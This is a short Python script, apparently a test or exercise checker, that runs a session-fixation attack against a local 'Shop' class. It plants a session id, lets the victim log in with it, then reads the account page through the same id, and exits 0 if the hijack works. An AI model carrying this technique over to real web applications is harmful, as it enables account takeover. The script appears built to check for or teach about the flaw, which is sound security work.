"""The attacker opens a session, plants its id, and shares it after the victim's login."""

import random
import string
import sys

from shop import Request, Shop

SEED = 0

rng = random.Random(SEED)
name, password = ("".join(rng.choices(string.ascii_lowercase, k=rng.randint(4, 9))) for _ in range(2))
shop = Shop({name: password})
planted = shop.handle(Request("/")).cookies["sid"]
shop.handle(Request("/login", {"sid": planted}, form={"name": name, "password": password}))
seen = shop.handle(Request("/account", {"sid": planted}))
sys.exit(0 if seen.status == 200 and name in seen.body else 1)
